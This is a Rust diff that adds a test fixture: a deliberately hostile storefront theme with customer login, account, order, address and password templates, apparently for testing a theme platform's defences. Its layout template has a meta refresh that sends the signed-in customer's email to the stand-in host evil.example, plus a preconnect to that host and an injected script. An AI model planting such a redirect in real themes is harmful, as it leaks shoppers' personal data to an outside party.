@@ -186,6 +186,95 @@ pub fn demo_theme(name: &str, slug: &str) -> Vec<(String, Vec<u8>)> {
     files.map(renamed).collect()
 }
 
+/// The templates of customers and of the password page, as a theme would write them that is up to no good: it has scripts,
+/// and leads and connects elsewhere.
+const ACCOUNT_TEMPLATES: [(&str, &str); 11] = [
+    (
+        "layout/theme.liquid",
+        "<!doctype html><html><head><title>{{ page_title }}</title>{{ content_for_header }}\
+         <meta http-equiv=\"refresh\" content=\"9;url=https://evil.example/?{{ customer.email }}\">\
+         <link rel=\"preconnect\" href=\"https://evil.example\">\
+         {{ 'theme.css' | asset_url | stylesheet_tag }}</head><body>\
+         {% if customer %}<p>Signed in as {{ customer.email }}</p>{% endif %}\
+         <script>document.title = 'taken';</script>{{ content_for_layout }}</body></html>",
+    ),
+    (
+        "layout/password.liquid",
+        "<!doctype html><html><head>{{ content_for_header }}</head><body class=\"closed\">\
+         {{ content_for_layout }}</body></html>",
+    ),
+    (
+        "templates/password.liquid",
+        "<h1>Soon</h1><p>{{ shop.password_message }}</p>{% form 'storefront_password' %}\
+         {{ form.errors | default_errors }}<input type=\"password\" name=\"password\">{% endform %}",
+    ),
+    (
+        "templates/customers/login.liquid",
+        "<h1>Theme login</h1>{% form 'customer_login' %}{{ form.errors | default_errors }}\
+         <input name=\"customer[email]\" value=\"{{ form.email }}\">\
+         <input type=\"password\" name=\"customer[password]\" value=\"{{ form.password }}\">{% endform %}\
+         {% form 'recover_customer_password' %}{% if form.posted_successfully? %}<p>A link is sent</p>{% endif %}\
+         {% for field in form.errors %}<p>{{ form.errors.messages[field] }}</p>{% endfor %}\
+         <input name=\"email\">{% endform %}{% form 'guest_login' %}<button>Guest</button>{% endform %}",
+    ),
+    (
+        "templates/customers/register.liquid",
+        "<h1>Theme register</h1>{% form 'create_customer' %}{% for field in form.errors %}\
+         <p>{{ form.errors.translated_fields[field] | capitalize }} {{ form.errors.messages[field] }}</p>{% endfor %}\
+         <input name=\"customer[first_name]\" value=\"{{ form.first_name }}\">\
+         <input name=\"customer[email]\" value=\"{{ form.email }}\">\
+         <input name=\"customer[password]\" value=\"{{ form.password }}\">{% endform %}",
+    ),
+    (
+        "templates/customers/account.liquid",
+        "<h1>Theme account of {{ customer.first_name }}</h1>{% paginate customer.orders by 20 %}\
+         {% for order in customer.orders %}<a href=\"{{ order.customer_url }}\">{{ order.name }}</a> \
+         {{ order.financial_status_label }} {{ order.total_price | money }}{% else %}No orders{% endfor %}\
+         {% endpaginate %}<p>{{ customer.addresses_count }} addresses</p>",
+    ),
+    (
+        "templates/customers/order.json",
+        "{\"sections\": {\"main\": {\"type\": \"main-order\"}}, \"order\": [\"main\"]}",
+    ),
+    (
+        "sections/main-order.liquid",
+        "<h1>Theme order {{ order.name }}</h1>{% for item in order.line_items %}<p>{{ item.title }} × \
+         {{ item.quantity }} {{ item.final_line_price | money }} {{ item.fulfillment.tracking_number }}</p>\
+         {% endfor %}<p>{{ order.total_price | money }} {{ order.fulfillment_status_label }}</p>\
+         {{ order.shipping_address | format_address }}<a href=\"{{ order.order_status_url }}\">Status</a>\
+         {% schema %}{\"name\": \"Order\", \"settings\": []}{% endschema %}",
+    ),
+    (
+        "templates/customers/addresses.liquid",
+        "<h1>Theme addresses</h1>{% form 'customer_address', customer.new_address %}\
+         <input name=\"address[address1]\" value=\"{{ form.address1 }}\">\
+         <select name=\"address[country]\" data-default=\"{{ form.country }}\">{{ all_country_option_tags }}</select>\
+         {{ form.set_as_default_checkbox }}{% endform %}\
+         {% for address in customer.addresses %}{% form 'customer_address', address %}\
+         <input name=\"address[city]\" value=\"{{ form.city }}\"> <i>{{ form.province }}</i>\
+         {% if form.errors %}<b>{{ form.errors.messages.city }}</b>{% endif %}{% endform %}\
+         <button data-target=\"{{ address.url }}\" data-confirm-message=\"Sure?\">Delete</button>{% endfor %}",
+    ),
+    (
+        "templates/customers/reset_password.liquid",
+        "<h1>Theme reset</h1>{% form 'reset_customer_password' %}{{ form.errors | default_errors }}\
+         <input name=\"customer[password]\"><input name=\"customer[password_confirmation]\">{% endform %}",
+    ),
+    (
+        "templates/customers/activate_account.liquid",
+        "<h1>Theme activation</h1>{% form 'activate_customer_password' %}{{ form.errors | default_errors }}\
+         <input name=\"customer[password]\"><input name=\"customer[password_confirmation]\">{% endform %}",
+    ),
+];
+
+/// A theme with templates of customers and of the password page.
+pub fn account_theme(slug: &str) -> Vec<(String, Vec<u8>)> {
+    let mut files = ThemeSource::new(slug).files();
+    files.retain(|(path, _)| path != "layout/theme.liquid");
+    files.extend(ACCOUNT_TEMPLATES.map(|(path, text)| (path.to_owned(), text.as_bytes().to_vec())));
+    files
+}
+
 /// Uploads an archive.
 pub async fn upload(client: &Client, zip: Vec<u8>) -> Reply {
     let input = client.post("/v1/themes/packages/upload").header("content-type", "application/zip");
